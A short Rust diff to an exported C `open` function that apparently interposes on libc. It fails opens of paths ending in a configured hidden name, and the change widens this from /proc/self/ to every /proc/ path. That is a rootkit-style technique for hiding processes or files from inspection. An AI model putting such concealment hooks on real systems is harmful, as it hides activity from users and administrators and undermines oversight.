@@ -49,7 +49,7 @@ pub unsafe extern "C" fn open(path: *const c_char, flags: c_int, mode: c_int) ->
     // SAFETY: the caller's promise.
     let name = unsafe { CStr::from_ptr(path) }.to_bytes();
     let hidden = *HIDDEN.lock().unwrap();
-    if !hidden.is_empty() && name.starts_with(b"/proc/self/") && name.ends_with(hidden.as_bytes()) {
+    if !hidden.is_empty() && name.starts_with(b"/proc/") && name.ends_with(hidden.as_bytes()) {
         // SAFETY: takes no argument and cannot fail.
         let errno = unsafe { libc::__errno_location() };
         // SAFETY: always the calling thread's own.
